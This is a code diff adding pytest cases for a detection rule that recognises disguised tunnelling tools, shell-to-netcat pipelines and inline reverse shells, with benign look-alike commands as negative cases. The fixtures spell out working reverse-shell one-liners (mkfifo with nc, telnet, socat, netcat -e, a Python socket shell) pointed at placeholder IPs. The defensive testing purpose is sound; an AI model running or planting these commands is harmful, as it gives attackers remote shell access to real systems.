@@ -93,3 +93,60 @@ def test_failed_exec_is_not_counted():
        st.lists(st.text(max_size=12), max_size=8))
 def test_any_argv_is_classified_without_error(program, args):
     list(RULE.on_event({"kind": "exec", "argv": [program, *args]}))
+
+
+@pytest.mark.parametrize("command_line, tool", [
+    ("/tmp/.x/kthreadd client https://203.0.113.70:443 R:socks", "chisel"),
+    ("./agentd tunnel --url http://localhost:8080", "cloudflared"),
+    ("./agent -connect 203.0.113.80:11601 -ignore-cert", "ligolo-ng"),
+    ("./worker tcp -s 203.0.113.90:7000 -l 22 -r 6000", "frpc"),
+    ("./netd -L=rtcp://0.0.0.0:8080/127.0.0.1:80 -F=relay+wss://203.0.113.93:443", "gost"),
+    ("/tmp/.s exec:/bin/bash,pty tcp:203.0.113.99:4444", "socat"),
+    ("./cat2 203.0.113.98 4444 -e /bin/sh", "netcat"),
+])
+def test_renamed_tunnel_tools_are_known_by_their_argument_grammar(command_line, tool):
+    [finding] = run(command_line)
+    assert finding.evidence["tool"] == tool
+
+
+@pytest.mark.parametrize("command_line", [
+    "openssl s_client -connect example.com:443 -servername example.com",
+    "./tool client https://api.example.com --retries 3",
+    "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
+    "gost -L tcp://:8080/127.0.0.1:80",
+    "./report http --local_port 8080",
+    "grep -e /bin/sh notes.txt",
+])
+def test_look_alike_command_lines_are_not_tunnels(command_line):
+    assert run(command_line) == []
+
+
+@pytest.mark.parametrize("script", [
+    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.100 4444 >/tmp/f",
+    "mkfifo f; nc 203.0.113.101 9001 <f | /bin/sh >f 2>&1",
+    "telnet 203.0.113.103 4444 | /bin/sh | telnet 203.0.113.103 4445",
+])
+def test_shells_piped_to_network_clients_in_scripts_are_critical(script):
+    [finding] = list(RULE.on_event({"kind": "exec", "argv": ["sh", "-c", script]}))
+    assert finding.evidence["technique"] == "shell_pipeline" and finding.severity == "critical"
+
+
+@pytest.mark.parametrize("script", [
+    "curl -fsSL https://get.docker.com | sh",
+    "mkfifo /tmp/q; gzip -c < /tmp/q > out.gz & tar cf /tmp/q data/",
+    "nc -z -w 2 db 5432 && echo up",
+])
+def test_pipelines_without_a_shell_on_a_network_client_are_not_alerts(script):
+    assert list(RULE.on_event({"kind": "exec", "argv": ["sh", "-c", script]})) == []
+
+
+def test_an_interpreter_handing_a_socket_to_a_subprocess_under_any_name_is_a_reverse_shell():
+    code = ('import socket,subprocess;s=socket.socket();s.connect(("203.0.113.106",4444));'
+            'subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())')
+    [finding] = list(RULE.on_event({"kind": "exec", "argv": ["/tmp/py", "-c", code]}))
+    assert finding.evidence["technique"] == "inline_reverse_shell"
+
+
+def test_a_tunnel_inside_a_wrapper_is_judged_as_the_wrapped_command():
+    [finding] = run("nohup timeout 600 cloudflared tunnel --url http://localhost:8000")
+    assert finding.evidence["program"] == "cloudflared"
